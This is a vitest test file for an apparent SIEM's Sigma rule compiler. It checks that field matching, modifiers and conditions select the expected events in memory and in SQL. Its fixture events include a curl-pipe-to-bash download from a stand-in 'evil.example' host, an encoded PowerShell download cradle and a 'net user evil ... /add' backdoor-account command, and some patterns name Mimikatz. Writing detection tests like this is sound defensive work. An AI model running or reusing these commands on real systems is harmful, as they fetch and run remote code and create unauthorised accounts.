// Sigma detections over MozDef-shaped events, in memory (the streaming engine's matcher) and as SQL
// on a real Postgres (window rebuilds and back-tests): both must select exactly the expected events.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PicketEvent } from '../../ingest/event.ts';
import { compileMatcher } from '../../store/query/index.ts';
import { mapSigmaField } from './field-mapping.ts';
import { compileSigma } from './sigma-rule.ts';
import { eventsDatabase, testEvent, type EventsDatabase } from './sigma-test-db.ts';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const EVENTS: Record<string, Partial<PicketEvent>> = {
  sshFail: {
    category: 'authentication',
    processname: 'sshd',
    hostname: 'web-01',
    summary: 'Failed password for root from 1.2.3.4 port 22 ssh2',
    details: { sourceipaddress: '1.2.3.4', username: 'root', success: false, destinationport: 22, targetuser: 'ROOT' },
  },
  sshOk: {
    category: 'authentication',
    processname: 'sshd',
    hostname: 'web-02',
    summary: 'Accepted password for Alice from 10.1.2.3 port 50022 ssh2',
    details: { sourceipaddress: '10.1.2.3', username: 'Alice', success: true, authmethod: 'password' },
  },
  curl: {
    category: 'execve',
    processname: '/usr/bin/curl',
    hostname: 'ws-7',
    summary: 'curl executed',
    details: { commandline: 'curl -s http://evil.example/x.sh | bash', eventid: 1, parentprocessname: '/bin/bash' },
  },
  psEnc: {
    category: 'process',
    processname: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    hostname: 'ws-9',
    summary: 'process created',
    details: {
      commandline: `powershell.exe -NoProfile -enc ${b64('xx IEX (New-Object Net.WebClient).DownloadString')}`,
      eventid: 4688,
      payload: b64('whoami'),
    },
  },
  netUser: {
    category: 'process',
    processname: 'C:\\Windows\\System32\\net.exe',
    hostname: 'ws-9',
    summary: 'process created',
    details: {
      commandline: 'net user evil P@ss /add',
      eventid: '4688',
      starred: 'a*b',
      encoded: Buffer.from('xx whoami /all', 'utf16le').toString('base64'),
    },
  },
  winLogon: {
    category: 'authentication',
    processname: 'lsass',
    hostname: 'DC01',
    summary: 'An account failed to log on',
    details: { eventid: 4625, username: 'Administrator', sourceipaddress: '203.0.113.9', logontype: 3, bytes: 2048 },
  },
  nested: {
    category: 'misc',
    processname: 'app',
    hostname: 'h-2',
    summary: 'nothing here',
    tags: ['Tagged-Thing'],
    details: {
      a: { b: ['x', { c: 'the DeepNeedle value' }] },
      n: 12345,
      text: 'first line\nsecond LINE',
      targetuser: 'root',
    },
  },
};
const NAMES = Object.keys(EVENTS);

const events: PicketEvent[] = NAMES.map((name, i) => testEvent(i, EVENTS[name]));
const nameOf = new Map(events.map((e, i) => [e.id, NAMES[i]]));

// No logsource: the rule looks at every event (a given logsource must be one Picket maps).
const rule = (detection: string, extra = '') => `title: t\n${extra}detection:\n${detection.replace(/^/gm, '  ')}\n`;

// [what, detection YAML, expected events]
const CASES: Array<[string, string, string[]]> = [
  ['plain value is case-insensitive and whole-value', 'sel:\n  User: alice\ncondition: sel', ['sshOk']],
  ['plain value is not a substring', 'sel:\n  User: Alic\ncondition: sel', []],
  ['list is OR', 'sel:\n  User: [root, administrator]\ncondition: sel', ['sshFail', 'winLogon']],
  ['map is AND', 'sel:\n  User: root\n  DestinationPort: 22\ncondition: sel', ['sshFail']],
  ['map is AND (negative)', 'sel:\n  User: root\n  DestinationPort: 23\ncondition: sel', []],
  [
    'list of maps is OR of ANDs',
    'sel:\n  - User: root\n    SourceIp: 1.2.3.4\n  - EventID: 4625\ncondition: sel',
    ['sshFail', 'winLogon'],
  ],
  ['number matches number and string', 'sel:\n  EventID: 4688\ncondition: sel', ['psEnc', 'netUser']],
  ['boolean', 'sel:\n  success: false\ncondition: sel', ['sshFail']],
  [
    'null = field absent',
    'sel:\n  category: authentication\n  authmethod: null\ncondition: sel',
    ['sshFail', 'winLogon'],
  ],
  ['wildcard *', 'sel:\n  Image: "*\\\\powershell.exe"\ncondition: sel', ['psEnc']],
  ['wildcard ?', 'sel:\n  ComputerName: ws-?\ncondition: sel', ['curl', 'psEnc', 'netUser']],
  ['escaped \\* is literal', 'sel:\n  starred: a\\*b\ncondition: sel', ['netUser']],
  ['escaped \\* is not a wildcard', 'sel:\n  starred: a\\*\ncondition: sel', []],
  ['contains', 'sel:\n  CommandLine|contains: HTTP://\ncondition: sel', ['curl']],
  ['contains|all', 'sel:\n  CommandLine|contains|all: [curl, "| bash"]\ncondition: sel', ['curl']],
  ['contains|all (negative)', 'sel:\n  CommandLine|contains|all: [curl, wget]\ncondition: sel', []],
  ['startswith', 'sel:\n  CommandLine|startswith: net user\ncondition: sel', ['netUser']],
  ['endswith', 'sel:\n  Image|endswith: [\\net.exe, \\curl]\ncondition: sel', ['netUser']],
  ['re (unanchored search)', "sel:\n  CommandLine|re: 'https?://[a-z]+\\.example'\ncondition: sel", ['curl']],
  ['re is case-sensitive', "sel:\n  CommandLine|re: 'CURL'\ncondition: sel", []],
  ['cidr', 'sel:\n  SourceIp|cidr: [10.0.0.0/8, 203.0.113.0/24]\ncondition: sel', ['sshOk', 'winLogon']],
  ['cidr (negative)', 'sel:\n  SourceIp|cidr: 192.168.0.0/16\ncondition: sel', []],
  ['base64', `sel:\n  payload|base64: whoami\ncondition: sel`, ['psEnc']],
  ['base64offset|contains', "sel:\n  CommandLine|base64offset|contains: 'IEX (New-Object'\ncondition: sel", ['psEnc']],
  [
    'base64offset|contains (negative)',
    "sel:\n  CommandLine|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel",
    [],
  ],
  ['windash', 'sel:\n  CommandLine|windash|contains: " -add"\ncondition: sel', ['netUser']],
  ['exists true', 'sel:\n  authmethod|exists: true\ncondition: sel', ['sshOk']],
  [
    'exists false',
    'sel:\n  category: authentication\n  authmethod|exists: false\ncondition: sel',
    ['sshFail', 'winLogon'],
  ],
  ['fieldref equal strings', 'sel:\n  targetuser|fieldref: User\ncondition: sel', ['sshFail']],
  [
    'gt / lte numbers',
    'a:\n  bytes|gt: 1024\nb:\n  DestinationPort|lte: 22\ncondition: a or b',
    ['sshFail', 'winLogon'],
  ],
  ['gte / lt numbers', 'a:\n  EventID|gte: 4625\nb:\n  EventID|lt: 4688\ncondition: a and b', ['winLogon']],
  ['cased', 'sel:\n  User|cased: Alice\ncondition: sel', ['sshOk']],
  ['cased (negative)', 'sel:\n  User|cased: alice\ncondition: sel', []],
  ['cased|contains', 'sel:\n  CommandLine|cased|contains: NoProfile\ncondition: sel', ['psEnc']],
  [
    'keywords search the summary',
    'keywords:\n  - failed password\n  - "*failed to log*"\ncondition: keywords',
    ['sshFail', 'winLogon'],
  ],
  // Keywords search every text value: details at any depth (arrays too), numbers, tags, columns.
  ['keywords search details values', 'keywords:\n  - /bin/bash\ncondition: keywords', ['curl']],
  ['keywords search nested arrays', 'keywords:\n  - deepneedle\ncondition: keywords', ['nested']],
  ['keywords with wildcards search nested values', 'keywords:\n  - "the*needle"\ncondition: keywords', ['nested']],
  ['keywords match numbers', 'keywords:\n  - 12345\ncondition: keywords', ['nested']],
  [
    'keywords search tags and columns',
    'keywords:\n  - tagged-thing\n  - DC0\ncondition: keywords',
    ['nested', 'winLogon'],
  ],
  ['keywords do not match object keys', 'keywords:\n  - targetuser\ncondition: keywords', []],
  ["'|all' keywords are ANDed", "sel:\n  '|all':\n    - failed\n    - root\ncondition: sel", ['sshFail']],
  ["'|all' keywords (negative)", "sel:\n  '|all':\n    - failed\n    - alice\ncondition: sel", []],
  // Regex flags, as modifiers or a leading inline group; `.` stops at a newline unless s.
  ['re|i', "sel:\n  CommandLine|re|i: 'CURL.*BASH'\ncondition: sel", ['curl']],
  ['inline (?i)', "sel:\n  CommandLine|re: '(?i)CURL'\ncondition: sel", ['curl']],
  ['re: . stops at a newline', "sel:\n  text|re: 'first.*second'\ncondition: sel", []],
  ['re|s: . spans newlines', "sel:\n  text|re|s: 'first.*second'\ncondition: sel", ['nested']],
  ['inline (?s)', "sel:\n  text|re: '(?s)first.*second'\ncondition: sel", ['nested']],
  ['re: ^ is the value start', "sel:\n  text|re: '^second'\ncondition: sel", []],
  ['re|m: ^ at a line start', "sel:\n  text|re|m: '^second'\ncondition: sel", ['nested']],
  ['re|m: $ at a line end', "sel:\n  text|re|m: 'line$'\ncondition: sel", ['nested']],
  ['re: $ is the value end', "sel:\n  text|re: 'line$'\ncondition: sel", []],
  ['re|i|m together', "sel:\n  text|re|i|m: '^SECOND line$'\ncondition: sel", ['nested']],
  ['re: [^x] still spans newlines', "sel:\n  text|re: 'line[^x]second'\ncondition: sel", ['nested']],
  // |fieldref: two fields of the same event hold the same value.
  ['fieldref (case-insensitive)', 'sel:\n  User|fieldref: targetuser\ncondition: sel', ['sshFail']],
  ['fieldref|cased', 'sel:\n  User|fieldref|cased: targetuser\ncondition: sel', []],
  ['fieldref on a column', 'sel:\n  processname|fieldref: details.processname\ncondition: sel', []],
  [
    'neq',
    'sel:\n  category: authentication\nnot_root:\n  User|neq: root\ncondition: sel and not_root',
    ['sshOk', 'winLogon'],
  ],
  // UTF-16 then base64 (PowerShell -EncodedCommand).
  ['wide|base64offset|contains', 'sel:\n  encoded|wide|base64offset|contains: whoami\ncondition: sel', ['netUser']],
  ['utf16le|base64offset|contains', 'sel:\n  encoded|utf16le|base64offset|contains: /all\ncondition: sel', ['netUser']],
  ['utf16le|base64: the exact encoding', 'sel:\n  encoded|utf16le|base64: xx whoami /all\ncondition: sel', ['netUser']],
  ['utf16be|base64 (negative: other byte order)', 'sel:\n  encoded|utf16be|base64: xx whoami /all\ncondition: sel', []],
  [
    'utf16|base64 (negative: a byte order mark first)',
    'sel:\n  encoded|utf16|base64: xx whoami /all\ncondition: sel',
    [],
  ],
  [
    'wide|base64offset (utf8 text does not match)',
    'sel:\n  CommandLine|wide|base64offset|contains: IEX (New-Object\ncondition: sel',
    [],
  ],
  ['not', 'sel:\n  category: authentication\nok:\n  success: true\ncondition: sel and not ok', ['sshFail', 'winLogon']],
  [
    'parentheses',
    'a:\n  ComputerName: web-01\nb:\n  ComputerName: DC01\nc:\n  User: root\ncondition: (a or b) and not c',
    ['winLogon'],
  ],
  [
    'precedence: not > and > or',
    'a:\n  ComputerName: web-01\nb:\n  ComputerName: DC01\nc:\n  User: administrator\ncondition: a or b and not c',
    ['sshFail'],
  ],
  [
    '1 of selection*',
    'selection_a:\n  User: root\nselection_b:\n  User: alice\nfilter:\n  ComputerName: web-01\ncondition: 1 of selection* and not filter',
    ['sshOk'],
  ],
  [
    'all of selection*',
    'selection_a:\n  User: root\nselection_b:\n  SourceIp: 1.2.3.4\ncondition: all of selection*',
    ['sshFail'],
  ],
  ['1 of them', 'a:\n  User: root\nb:\n  EventID: 1\ncondition: 1 of them', ['sshFail', 'curl']],
  ['all of them', 'a:\n  User: root\nb:\n  EventID: 1\ncondition: all of them', []],
  ['them skips _underscore names', 'a:\n  User: root\n_b:\n  EventID: 1\ncondition: all of them', ['sshFail']],
  ['condition list is OR', 'a:\n  User: root\nb:\n  EventID: 1\ncondition:\n  - a\n  - b', ['sshFail', 'curl']],
];

describe('Sigma detections on Postgres and in memory', () => {
  let store: EventsDatabase;
  beforeAll(async () => {
    store = await eventsDatabase(events);
  });
  afterAll(() => store?.db.drop());

  it.each(CASES)('%s', async (_what, detection, expected) => {
    const { query } = compileSigma(rule(detection));
    const got = await store.select(query);
    const names = (ids: string[]) => ids.map((id) => nameOf.get(id)!).sort();
    expect(names(got.memory), 'in memory').toEqual([...expected].sort());
    expect(names(got.sql), 'SQL').toEqual([...expected].sort());
  });

  it('applies logsource hints (service sshd → processname:sshd)', () => {
    const { query } = compileSigma(
      'title: t\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    User: root\n  condition: sel\n',
    );
    const m = compileMatcher(query);
    expect(events.filter(m).map((e) => nameOf.get(e.id))).toEqual(['sshFail']);
    const other = { ...events[0], processname: 'login' };
    expect(m(other)).toBe(false);
  });
});

describe('Sigma field mapping', () => {
  it.each([
    ['SourceIp', 'details.sourceipaddress'],
    ['src_ip', 'details.sourceipaddress'],
    ['DestinationIp', 'details.destinationipaddress'],
    ['DestinationPort', 'details.destinationport'],
    ['User', 'details.username'],
    ['TargetUserName', 'details.username'],
    ['CommandLine', 'details.commandline'],
    ['Image', 'processname'],
    ['EventID', 'details.eventid'],
    ['ComputerName', 'hostname'],
    ['Hostname', 'hostname'],
    ['hostname', 'hostname'],
    ['details.custom.path', 'details.custom.path'],
    ['SomeVendorField', 'details.SomeVendorField'],
  ])('%s → %s', (sigma, picket) => {
    expect(mapSigmaField(sigma)).toEqual({ field: picket });
  });
});
